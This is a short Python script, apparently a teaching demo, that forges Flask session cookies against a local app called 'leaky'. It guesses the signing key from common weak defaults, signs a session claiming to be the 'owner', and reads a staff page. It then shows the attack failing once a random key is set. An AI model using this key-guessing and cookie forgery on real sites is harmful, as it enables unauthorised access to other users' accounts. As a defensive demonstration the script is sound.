"""A visitor guesses the secret key, and signs a session of another."""

import secrets

from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature
from itsdangerous.encoding import base64_decode
from leaky import app as shop

# region: forge
GUESSES = ["dev", "changeme", "secret", "mysecretkey"]


def signer(key):
    """Return what signs the session of any application with this key."""
    mine = Flask("mine")
    mine.secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(mine)


def guessed(cookie):
    """Return the key that signed this cookie, if it is one of the guesses."""
    for key in GUESSES:
        try:
            signer(key).loads(cookie)
        except BadSignature:
            continue
        return key
    return None


def attack():
    """Get a cookie, find its key, and come back as the owner."""
    visitor = shop.test_client()
    visitor.post("/login")
    cookie = visitor.get_cookie("session").value
    print("it says:", base64_decode(cookie.partition(".")[0]))
    key = guessed(cookie)
    print("key:", key)
    forged = signer(key or "a guess").dumps({"user": "owner"})
    visitor.set_cookie("session", forged)
    print("staff:", visitor.get("/staff").text)


attack()
shop.secret_key = secrets.token_hex()
attack()
# endregion
